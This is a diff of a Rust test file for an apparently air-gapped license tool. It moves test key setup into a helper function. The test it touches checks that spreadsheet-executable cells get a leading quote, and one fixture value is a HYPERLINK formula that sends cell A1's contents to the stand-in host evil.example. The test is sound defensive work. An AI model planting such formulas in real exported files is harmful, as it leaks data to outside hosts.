@@ -5,7 +5,7 @@
 use std::fs;
 use std::process::Command;
 
-use airgap_license::issuer::{Issuer, generate_key, public_key_pem};
+use airgap_license::issuer::Issuer;
 use serde_json::json;
 
 const BIN: &str = env!("CARGO_BIN_EXE_airgap-license");
@@ -13,9 +13,7 @@ const BIN: &str = env!("CARGO_BIN_EXE_airgap-license");
 #[test]
 fn a_cell_a_spreadsheet_would_run_gets_a_leading_quote() {
     let dir = tempfile::tempdir().unwrap();
-    let key = generate_key().unwrap();
-    fs::create_dir(dir.path().join("keys")).unwrap();
-    fs::write(dir.path().join("keys/test.pem"), public_key_pem("test", &key.verifying_key()).unwrap()).unwrap();
+    let key = crate::util::keys_folder(dir.path());
     let issuer = Issuer::new("test", key).unwrap();
     let licensees = [
         ("a", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
